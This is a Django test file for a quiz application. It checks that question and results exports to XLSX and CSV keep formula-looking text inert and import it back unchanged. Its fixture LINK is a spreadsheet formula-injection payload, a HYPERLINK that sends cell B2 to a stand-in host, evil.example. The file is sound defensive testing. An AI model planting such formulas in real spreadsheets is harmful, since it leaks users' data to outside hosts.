"""Question bank and results exports keep typed text as text: never a formula in the officer's
spreadsheet, and read back by the question import exactly as typed."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from saidao.conftest import Tree
from saidao.quizzes import selectors, services
from saidao.quizzes.models import Question, QuestionKind
from saidao.quizzes.tests.factories import make_contest
from saidao.quizzes.tests.test_selectors import _result

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?x="&B2,"点我")'


def _hostile_question(tree: Tree) -> Question:
    return services.question_create(
        actor=tree.city_officer,
        organization=tree.anding,
        kind=QuestionKind.SINGLE,
        stem="=1+1",
        options=["-5℃", "+86 139…", "@foo", LINK],
        answer="A",
        category="=x",
        difficulty="easy",
        explanation="'=A1 与 #N/A",
    )


def _typed(q: Question) -> tuple[str, list[str], str, str]:
    return (q.stem, list(q.options), q.category, q.explanation)


def test_a_hostile_question_is_exported_as_text(tree: Tree) -> None:
    """Stem, options, category and explanation that look like formulas are text cells."""
    q = _hostile_question(tree)
    body = services.questions_export(questions=[q], fmt="xlsx")
    ws = load_workbook(io.BytesIO(body)).worksheets[0]
    cells = [c for c in ws[2] if c.value not in (None, "")]
    assert "=1+1" in [c.value for c in cells] and LINK in [c.value for c in cells]
    assert all(c.data_type in ("s", "n") and not c.quotePrefix for c in cells)
    assert [c.data_type for c in cells if isinstance(c.value, str)] == ["s"] * len(cells)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_export_imports_back_as_typed(tree: Tree, fmt: str) -> None:
    """Export then import into another bank gives the same stem, options, category and
    explanation, character for character."""
    q = _hostile_question(tree)
    body = services.questions_export(questions=[q], fmt=fmt)
    if fmt == "csv":
        assert b"'=1+1" in body  # a CSV has no text cells: the mark keeps Excel from computing
    (again,) = services.questions_import(
        actor=tree.city_officer,
        organization=tree.tongwei,
        file=io.BytesIO(body),
        filename=f"e.{fmt}",
    )
    assert _typed(again) == _typed(q)


def test_results_show_a_hostile_organization_name_as_text(tree: Tree) -> None:
    """An organization named like a formula is a text cell in the results workbook."""
    tree.courier.name = LINK
    tree.courier.save(update_fields=["name"])
    contest = make_contest(actor=tree.city_officer, organizer=tree.dingxi)
    _result(contest, tree.courier, 100, 100, 1)
    body = selectors.results_xlsx(user=tree.city_officer, contest=contest)
    cell = load_workbook(io.BytesIO(body)).worksheets[0]["A2"]
    assert (cell.value, cell.data_type) == (LINK, "s")
